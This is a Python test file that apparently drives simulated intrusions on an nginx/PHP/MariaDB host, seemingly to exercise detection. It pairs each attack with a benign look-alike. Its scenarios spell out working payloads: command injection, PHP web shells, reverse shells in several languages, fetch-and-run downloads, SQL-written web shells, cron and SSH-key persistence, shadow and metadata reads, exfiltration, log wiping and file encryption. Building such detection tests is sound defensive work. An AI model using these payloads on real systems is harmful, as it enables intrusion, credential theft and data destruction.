# SPDX-License-Identifier: Apache-2.0
"""What an intruder does on a host with nginx, php-fpm and mariadb: by a command injection, a web shell, SQL."""

import time

from intruder import ADDRESS, INTRUDER, SHELL, WEB, change, define, operator, request, unit

SERVICE = f"http://{ADDRESS}/"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlayedByATestAndNobodysKeyAtAllAAAAAAAAAAAA x@example.org"
METADATA = "169.254.169.254"


def inject(command, seconds=6):
    """The page that pings what a visitor names gives the name to a shell."""
    return lambda host, rng: request(host, "-G", "--data-urlencode", "do=ping", "--data-urlencode", f"host=localhost; {command}", SERVICE, seconds=seconds)


def upload(host, name, content):
    path = host.folder / name
    path.write_bytes(content)
    name = request(host, "-F", f"file=@{path}", f"{SERVICE}?do=upload").strip()
    time.sleep(0.5)  # files that have gone again at once are not told of
    return name


def web_shell(code, *words):
    """A script that is uploaded as a picture would be, and then called: the host serves uploads."""
    def attack(host, rng):
        name = upload(host, "picture.php", code.encode())
        request(host, "-G", *words, f"{SERVICE}uploads/{name}")
        host.prepare(f"rm -f /srv/www/uploads/{name}")
    return attack


def serve_uploads(host):
    host.prepare("ln -sfn /srv/www/uploads /srv/www/public/uploads")


def ping(name):
    return lambda host, rng: request(host, f"{SERVICE}?do=ping&host={name}")


def visit(*words, do="home"):
    return lambda host, rng: request(host, *words, f"{SERVICE}?do={do}")


def order(host, rng):
    host.workload.order(host, rng, "plum")


def share(name):
    def twin(host, rng):
        from workloads.web import GIF, PNG
        host.workload.upload(host, rng, name, GIF if name.endswith("gif") else PNG)
    return twin


def into_file(host, rng):
    host.prepare("chmod 777 /srv/www/public; mysql -e 'GRANT FILE ON *.* TO shop@localhost'")
    host.client("mysql", "-h", "127.0.0.1", "-ushop", "-psecret", "-e",
                "SELECT '<?php system($_GET[\"c\"]);' INTO OUTFILE '/srv/www/public/look.php'", check=False)
    request(host, f"{SERVICE}look.php?c=id")
    host.prepare("rm -f /srv/www/public/look.php; chmod 755 /srv/www/public")


def preload(host, rng):
    name = upload(host, "picture.so", host.path("/usr/lib/x86_64-linux-gnu/libresolv.so.2").read_bytes())
    inject(f"LD_PRELOAD=/srv/www/uploads/{name} getent hosts localhost")(host, rng)
    host.prepare(f"rm -f /srv/www/uploads/{name}")


def victims(host, rng):
    """Files of the application that are there to be lost."""
    host.prepare("for i in 1 2 3; do echo picture >/srv/www/uploads/lost-$i.png; done; chown www-data: /srv/www/uploads/lost-*")


def on_victims(command):
    def attack(host, rng):
        victims(host, rng)
        inject(command)(host, rng)
    return attack


def with_sudo(host):
    host.write("/etc/sudoers.d/www-data", "www-data ALL=(root) NOPASSWD: ALL\n", 0o440)


def with_suid(host):
    host.prepare("install -m 4755 /bin/bash /usr/local/lib/helper")


def with_home(host):
    host.prepare("mkdir -p /var/www; chown www-data: /var/www")


def with_modules(host):
    host.prepare("[ -e /sbin/insmod ] || cp /bin/false /sbin/insmod")


def with_key(host):
    host.write("/srv/www/id", host.key.read_text(), 0o600)
    host.prepare("chown www-data: /srv/www/id")


def with_metadata(host):
    host.prepare(f"ip address replace {METADATA}/32 dev lo")


SSH = "ssh -i /srv/www/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=3"
PYTHON = (f"import os,socket,subprocess as p;s=socket.create_connection((\"{INTRUDER}\",{SHELL}));"
          "p.run([\"/bin/sh\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())")
PERL = (f"use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in({SHELL},inet_aton(\"{INTRUDER}\")));"
        "open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh\")")
PHP = f"$s=fsockopen(\"{INTRUDER}\",{SHELL});proc_close(proc_open(\"sh\",[$s,$s,$s],$p));"
AWK = (f"BEGIN{{s=\"/inet/tcp/0/{INTRUDER}/{SHELL}\";while((s|&getline c)>0){{if(c==\"exit\")break;"
       "while((c|getline x)>0)print x|&s;close(c)}}")
MEMFD = "import os;f=os.memfd_create(\"x\");os.write(f,open(\"/usr/bin/id\",\"rb\").read());os.execv(f\"/proc/self/fd/{f}\",[\"x\"])"
MINER = "printf \"#!/bin/sh\\ni=0; while [ \\$i -lt 100000 ]; do i=\\$((i+1)); done\\n\" >/tmp/xmrig; chmod 755 /tmp/xmrig; /tmp/xmrig; rm /tmp/xmrig"

define(
    globals(), "web",
    # execution
    ("command injection", "a shell looks who it is", inject("id; whoami; uname -a"), ping("127.0.0.1")),
    ("command injection reads accounts", "cat, which the service starts for mails anyway", inject("cat /etc/passwd"), order),
    ("command injection with builtins", "nothing but what the shell has itself",
     inject("while read -r l; do echo \"$l\"; done </etc/passwd; echo /root/* /home/*; echo $PATH"), ping("::1")),
    ("web shell", "a script in a directory of uploads runs commands", web_shell("<?php system($_GET['c']);", "-d", "c=id"), share("sun.png"), serve_uploads),
    ("web shell without commands", "a script in a directory of uploads calls home",
     web_shell(f"<?php $s = fsockopen('{INTRUDER}', {SHELL}); fwrite($s, file_get_contents('/etc/passwd'));"), share("moon.gif"), serve_uploads),
    ("reverse shell by bash", "", inject(f"bash -c 'bash -i >& /dev/tcp/{INTRUDER}/{SHELL} 0>&1'"), visit(do="report")),
    ("reverse shell by nc", "", inject(f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {INTRUDER} {SHELL} >/tmp/f"), ping("localhost")),
    ("reverse shell by python", "", inject(f"python3 -c '{PYTHON}'"), visit("-d", "user=eve", do="login")),
    ("reverse shell by perl", "", inject(f"perl -e '{PERL}'"), order),
    ("reverse shell by php", "", inject(f"php -r '{PHP}'"), unit("shop-cron.service")),
    ("reverse shell by socat", "", inject(f"socat exec:/bin/sh tcp:{INTRUDER}:{SHELL}"), visit(do="fail")),
    ("reverse shell by awk", "", inject(f"gawk '{AWK}' & sleep 2; kill $!"), unit("phpsessionclean.service")),
    ("reverse shell by busybox", "", inject(f"busybox nc {INTRUDER} {SHELL} -e /bin/sh"), ping("ip6-localhost")),
    ("curl to a shell", "", inject(f"curl -s {WEB}/x | sh"), operator("curl -s http://127.0.0.1/style.css; id")),
    ("program fetched to tmp", "", inject(f"wget -q -O /tmp/x {WEB}/tool; chmod +x /tmp/x; /tmp/x; rm /tmp/x"), unit("shop-backup.service")),
    ("program fetched to shm", "", inject(f"curl -s -o /dev/shm/.x {WEB}/tool; chmod 755 /dev/shm/.x; /dev/shm/.x; rm /dev/shm/.x"), share("cloud.png")),
    ("program fetched to var tmp by php", "only php fetches, and it is started at once",
     inject(f"php -r 'copy(\"{WEB}/tool\",\"/var/tmp/systemd-x\");chmod(\"/var/tmp/systemd-x\",0755);'; /var/tmp/systemd-x"), unit("shop-cron.service")),
    ("program among uploads", "", inject(f"curl -s -o /srv/www/uploads/php-helper {WEB}/tool; chmod 755 /srv/www/uploads/php-helper; "
                                         "/srv/www/uploads/php-helper; rm /srv/www/uploads/php-helper"), share("tree.png")),
    ("renamed nc", "a copy of nc under another name", inject("cp /bin/nc.openbsd /srv/www/uploads/php-helper; "
                                                           f"/srv/www/uploads/php-helper -N {INTRUDER} 9001 </etc/passwd; rm /srv/www/uploads/php-helper"), share("dog.gif")),
    ("program in memory", "", inject(f"python3 -c '{MEMFD}'"), visit(do="home")),
    ("library preloaded", "a library that is uploaded as a picture would be", preload, share("bird.png")),
    ("program through the loader", "", inject("/lib64/ld-linux-x86-64.so.2 /usr/bin/id"), ping("127.0.0.1")),
    # persistence
    ("crontab of the service's user", "", inject("echo '* * * * * true' | crontab -"),
     operator("echo '0 0 1 1 * true' | sudo crontab -u nobody -; sudo crontab -u nobody -r")),
    ("key of the service's user", "", inject(f"mkdir -p /var/www/.ssh; echo {KEY} >>/var/www/.ssh/authorized_keys"),
     operator("mkdir -p ~/.ssh; echo '# no key' >>~/.ssh/authorized_keys"), with_home),
    ("shell's start file", "", inject("echo true >>/var/www/.bashrc"), operator("echo '# true' >>~/.bashrc"), with_home),
    ("job in cron.d", "by sudo that asks nobody", inject("echo '0 0 1 1 * root true' | sudo -n tee /etc/cron.d/x"),
     change("echo '0 0 1 1 * root true' >/etc/cron.d/site"), with_sudo),
    ("unit", "", inject("printf '[Service]\\nExecStart=/bin/sleep 1\\n' | sudo -n tee /etc/systemd/system/x.service; sudo -n systemctl start x"),
     change("printf '[Service]\\nExecStart=/bin/true\\n' >/etc/systemd/system/site.service; systemctl daemon-reload"), with_sudo),
    ("account added", "", inject("sudo -n useradd -o -u 0 toor"), operator("sudo useradd temporary; sudo userdel temporary"), with_sudo),
    ("ld.so.preload", "", inject("sudo -n sh -c 'echo /srv/www/uploads/none.so >/etc/ld.so.preload; sleep 0.2; rm /etc/ld.so.preload'"),
     change("echo /usr/local/lib/site >/etc/ld.so.conf.d/site.conf"), with_sudo),
    ("script in the web root by SQL", "mariadb writes a file, where it may", into_file, order),
    # more rights
    ("set-uid shell", "one that was left there", inject("/usr/local/lib/helper -p -c 'echo $EUID'"), visit(do="report"), with_suid),
    ("shadow by sudo", "", inject("sudo -n cat /etc/shadow"), operator("sudo cat /etc/shadow >/dev/null"), with_sudo),
    ("kernel module", "", inject("/sbin/insmod /tmp/x.ko"), operator("sudo /sbin/insmod; cat /proc/modules >/dev/null"), with_modules),
    ("namespaces", "", inject("unshare -r id; nsenter -t 1 -a id"), operator("sudo nsenter -t 1 -m true")),
    ("docker", "", inject("docker -H unix:///run/docker.sock ps; curl -s --unix-socket /run/docker.sock http://x/images/json"), unit("shop-backup.service")),
    ("debugger", "a look into another process's memory", inject("gdb -q -batch -p $$ -ex 'info proc'"), visit("-d", "user=gdb", do="login")),
    # credentials, discovery
    ("dump of the database", "by the application's own account", inject("mysqldump -h 127.0.0.1 -ushop -psecret shop >/tmp/.d"), unit("shop-backup.service")),
    ("cloud's credentials", "", inject(f"curl -s -m 1 http://{METADATA}/latest/meta-data/iam/"), visit(do="report"), with_metadata),
    ("search for keys", "", inject("grep -rl BEGIN.*KEY /srv /home /root /etc/ssh"), operator("sudo grep -rl BEGIN /etc/ssh >/dev/null")),
    ("look around", "", inject("ps aux; ss -tlnp; ip address"), operator("ps aux; sudo ss -tlnp; ip address")),
    ("search for set-uid programs", "", inject("find /usr/bin -perm -4000"), operator("find /usr/bin -perm -4000")),
    ("ports scanned by bash", "", inject("bash -c 'for p in 21 22 25 80 3306 6379; do (echo >/dev/tcp/10.20.0.77/$p) 2>/dev/null; done'"), ping("::1")),
    ("ports scanned by nc", "", inject("for p in 21 22 80 6379; do nc -z -w 1 10.20.0.77 $p; done"), operator(f"nc -z {ADDRESS} 80; nc -z 127.0.0.1 3306")),
    ("ports scanned by php", "the application's own interpreter", inject("php -r 'foreach([22,25,6379,2375] as $p) @fsockopen(\"10.20.0.77\",$p,$e,$m,0.2);'"),
     unit("shop-cron.service")),
    # onwards
    ("login elsewhere", "with a key that the application has", inject(f"{SSH} caretaker@{ADDRESS} id"), operator(f"ssh -o BatchMode=yes -o ConnectTimeout=3 {ADDRESS} id || true"), with_key),
    ("tunnel back", "", inject(f"{SSH} -f -N -R 18080:127.0.0.1:3306 caretaker@{ADDRESS}; sleep 1; pkill -x ssh"), operator("sleep 0.2"), with_key),
    ("port forwarded", "", inject("socat tcp-listen:18081,fork tcp:127.0.0.1:3306 & sleep 0.5; kill $!"), visit(do="fail")),
    ("backdoor listens", "", inject("python3 -m http.server 18082 --directory /srv/www & sleep 1; kill $!"), operator("timeout 1 python3 -m http.server 18082 --bind 127.0.0.1")),
    # exfiltration
    ("archive sent by curl", "", inject(f"tar -czf /tmp/.a.tgz /srv/www; curl -s -T /tmp/.a.tgz {WEB}/a; rm /tmp/.a.tgz"),
     operator("tar -czf /tmp/site.tgz /srv/www/public; rm /tmp/site.tgz")),
    ("file sent by nc", "", inject(f"nc -N {INTRUDER} 9001 </srv/www/lib.php"), share("cat.gif")),
    ("datagrams", "what looks like names, to an odd port", inject(f"bash -c 'echo data >/dev/udp/{INTRUDER}/5353'"), ping("127.0.0.1")),
    # traces, damage
    ("log emptied", "by a shell that has no need of a program", inject(": >/var/log/nginx/access.log"), unit("logrotate.service")),
    ("time of a file forged", "", inject("touch -r /usr/bin/id /srv/www/thumbs"), share("kite.png")),
    ("logging stopped", "", inject("systemctl stop cron; pkill -x cron"), operator("sudo systemctl reload nginx")),
    ("miner", "", inject(MINER), unit("shop-backup.service")),
    ("files encrypted", "", on_victims("for f in /srv/www/uploads/lost-*; do openssl enc -aes-256-cbc -pass pass:x -in $f -out $f.enc 2>/dev/null && rm $f; done"),
     share("rose.png")),
    ("files deleted", "", on_victims("find /srv/www/uploads -name 'lost-*' -delete; rm -rf /srv/www/uploads/lost*"), unit("shop-cron.service")),
    natures={
        "command injection reads accounts": "the service starts cat for its mails; what it reads is no behaviour",
        "command injection with builtins": "the shell is the one that the page starts, and it starts nothing",
    },
)
